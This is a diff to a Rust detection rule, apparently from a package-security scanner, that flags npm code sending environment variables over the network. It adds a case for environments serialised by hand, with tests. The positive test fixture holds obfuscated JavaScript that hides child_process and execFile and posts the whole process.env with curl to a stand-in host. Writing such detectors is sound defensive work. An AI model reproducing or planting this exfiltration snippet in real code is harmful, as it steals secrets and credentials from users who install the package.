@@ -14,7 +14,7 @@ diligence_finding::declare_rule! {
     ///
     /// ## What it detects
     /// A value-flow path from the environment to a network or DNS send: `process.env` as a whole (or its
-    /// keys/entries), through variables, properties, encoders, function arguments, returns, callbacks and the
+    /// keys/entries, or each variable read while its keys are iterated), through variables, properties, encoders, function arguments, returns, callbacks and the
     /// package's own modules, into an HTTP body, URL or header, a socket or WebSocket write, a beacon, a mail
     /// sent through an SMTP transport the code creates (`nodemailer.createTransport({ host }).sendMail(…)`,
     /// the destination being the SMTP host) or a DNS name (critical); one secret-named variable (`NPM_TOKEN`, `AWS_SECRET_ACCESS_KEY`) sent is medium, or
@@ -108,6 +108,16 @@ fn paths_all(p: &PackageFacts) -> Vec<CodeFinding> {
                 // Each variable whose name matches a secret filter, read in the loop that
                 // filters them: the secrets harvested one by one, the whole set sent.
                 SourceKind::EnvSecret if harvested(p, path) => Severity::Critical,
+                // Every variable read while the environment's keys are iterated
+                // (`Object.keys(e).map(k => k + '=' + e[k])`): the whole environment, as
+                // serialised by hand.
+                SourceKind::EnvSecret if iterated(p, path) => {
+                    if package_registry(path.dest.as_deref()) {
+                        Severity::Medium
+                    } else {
+                        Severity::Critical
+                    }
+                }
                 // A CI runner's own token sent to a constant host that is not the CI
                 // provider's: the token is good for the repository, not for anyone else;
                 // from an install script (it runs inside the runner) it is the attack itself.
@@ -127,7 +137,7 @@ fn paths_all(p: &PackageFacts) -> Vec<CodeFinding> {
                 _ if metadata_only => Severity::Low,
                 _ => Severity::Medium,
             };
-            let what = if path.source == SourceKind::EnvAll {
+            let what = if path.source == SourceKind::EnvAll || iterated(p, path) {
                 "the environment"
             } else {
                 "a secret environment variable"
@@ -174,6 +184,27 @@ fn filtered(f: &crate::signal::FileFacts, func: u32) -> bool {
     f.signals
         .iter()
         .any(|s| s.func == func && s.kind == Kind::EnvRead && s.detail.starts_with("process.env."))
+}
+
+/// True when the path's source is a computed `process.env[name]` read within two lines of
+/// an iteration of the environment's keys (`Object.keys(process.env)`, `for…in`), with no
+/// secret-name filter there (that is [`harvested`]): each variable in turn, the whole set.
+/// Only for a short path inside one file (not on a minified first line).
+fn iterated(p: &PackageFacts, path: &crate::flow::FlowPath) -> bool {
+    // Local only: the read and the send in one file, a few lines apart (a long path through
+    // a bundle's helpers joins unrelated variables with unrelated sends).
+    if path.from.what != "process.env[…]"
+        || path.from.file != path.to.file
+        || path.to.line.abs_diff(path.from.line) > 15
+        || path.from.line == 1
+    {
+        return false;
+    }
+    let Some(f) = p.file(&path.from.file) else {
+        return false;
+    };
+    f.of(Kind::EnvIterate)
+        .any(|s| s.line <= path.from.line && path.from.line <= s.line + 2)
 }
 
 /// True when `what` (a source detail, `process.env.NAME`) names a CI runner's job token: the
@@ -284,7 +315,7 @@ fn report(
 
 #[cfg(test)]
 mod tests {
-    use crate::rules::test_util::{PJ, hits, scan};
+    use crate::rules::test_util::{PJ, hits, scan, severity};
 
     /// Every variable read one by one in the loop over the names and posted by a curl child
     /// process (names folded from concatenations and char codes); a config loader reading
@@ -558,5 +589,40 @@ mod tests {
             env,
             vec![("build/index.js", 3, diligence_finding::Severity::Medium)]
         );
+    }
+
+    /// The environment serialised by hand (`Object.keys(e).map(k => k + '=' + e[k])`) with
+    /// `process`, `env`, `child_process` and `execFile` hidden, posted by a curl child process.
+    #[test]
+    fn positive_env_serialised_by_hand_posted_with_curl() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "compat.js",
+                "const c = 'c' + 'hild' + '_pr' + 'ocess';\nconst m = [101, 120, 101, 99].map(x => String.fromCharCode(x)).join('');\nconst q = require(c);\nconst k = 'en' + 'v';\nfunction tmp() {\n  const e = process[k];\n  const data = Object.keys(e).map(n => n + '=' + e[n]).join('\\n');\n  q[m + 'File']('curl', ['-s', '--data-binary', data, 'https://t.example.com/t'], () => {});\n}\nmodule.exports = { tmp };\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/env-exfiltration"),
+            vec![("compat.js".to_string(), 8)]
+        );
+        assert_eq!(
+            severity(&s, "code/env-exfiltration"),
+            Some(diligence_finding::Severity::Critical)
+        );
+    }
+
+    /// The benign look-alike: a child process given a copy of the environment built the same
+    /// way runs a build tool, no network send.
+    #[test]
+    fn negative_env_copied_for_a_child_process() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "run.js",
+                "const cp = require('child_process');\nfunction run() {\n  const e = process.env;\n  const lines = Object.keys(e).map(n => n + '=' + e[n]).join('\\n');\n  cp.execFileSync('make', ['-e', lines]);\n}\nmodule.exports = { run };\n",
+            ),
+        ]);
+        assert_eq!(hits(&s, "code/env-exfiltration"), vec![]);
     }
 }
